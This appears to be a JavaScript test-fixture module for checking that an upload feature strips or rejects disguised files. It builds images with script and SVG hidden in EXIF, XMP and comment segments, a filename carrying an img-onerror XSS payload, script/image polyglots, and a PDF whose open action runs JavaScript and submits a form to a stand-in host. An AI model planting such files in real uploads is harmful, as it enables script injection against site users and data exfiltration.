// Files that are something else beside what they say.
const SCRIPT = "<script>loaRan('file')</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="loaRan('svg')"><script>loaRan('svg')</script><image href="//chu-xau.invalid/a.png"/></svg>`;

const drawn = (page, kind) =>
  page.evaluate(async (kind) => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 40, height: 30 });
    canvas.getContext("2d").fillRect(5, 5, 20, 20);
    const blob = await new Promise((resolve) => canvas.toBlob(resolve, kind));
    return [...new Uint8Array(await blob.arrayBuffer())];
  }, kind);

const segment = (mark, text) => {
  const bytes = Buffer.from(text, "latin1");
  const length = Buffer.alloc(2);
  length.writeUInt16BE(bytes.length + 2);
  return Buffer.concat([Buffer.from([0xff, mark]), length, bytes]);
};

/// Pictures that are pictures, with something that runs beside the points: these are taken, and what is beside is not kept.
export async function withScripts(page) {
  const jpeg = Buffer.from(await drawn(page, "image/jpeg"));
  const png = Buffer.from(await drawn(page, "image/png"));
  const exif = `Exif\0\0MM\0\x2a\0\0\0\x08\0\x01\x01\x0e\0\x02\0\0\0${String.fromCharCode(SCRIPT.length + 1)}\0\0\0\x1a\0\0\0\0${SCRIPT}\0`;
  const beside = [segment(0xe1, exif), segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${SVG}`), segment(0xfe, `*/=1;loaRan('js')/*${SCRIPT}`)];
  return [
    ["loaRan('name')\"><img src=x onerror=loaRan(1)>.jpg", Buffer.concat([jpeg.subarray(0, 2), ...beside, jpeg.subarray(2), Buffer.from(SCRIPT)])],
    ["anh.png", Buffer.concat([png, Buffer.from(`${SCRIPT}${SVG}`)])],
    ["anh.html", jpeg],
  ];
}

/// What is no picture, whatever it is called.
export const NO_PICTURES = [
  ["anh.svg", SVG],
  ["anh.jpg", SVG],
  ["anh.jpg", `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`],
  ["anh.png", `\n\n  ${SCRIPT}`],
  ["anh.gif", `GIF89a/*\x01\0\x80\0\0\xff\xff\xff\0\0\0*/=1;loaRan('gif')//;`],
  ["anh.jpg", `GIF89a=1;loaRan('gif');/*${SCRIPT}*/`],
  ["anh.jpg", `\xff\xd8\xff\xe0/*${SCRIPT}*/`],
  ["anh.webp", `RIFF/***/WEBPVP8 =1;loaRan('webp')`],
  ["anh.jpg", `%PDF-1.4\n${SCRIPT}`],
  ["anh.jpg", `BM/*${SCRIPT}*/`],
].map(([name, text]) => [name, Buffer.from(text, "latin1")]);

/// A PDF that runs something when it is opened, and is a page as well.
export const PDF = Buffer.from(
  `%PDF-1.4\n%${SCRIPT}\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('pdf'\\);this.submitForm\\('http://chu-xau.invalid'\\))>>>>endobj\n` +
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(javascript:loaRan\\(3\\))>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
  "latin1",
);
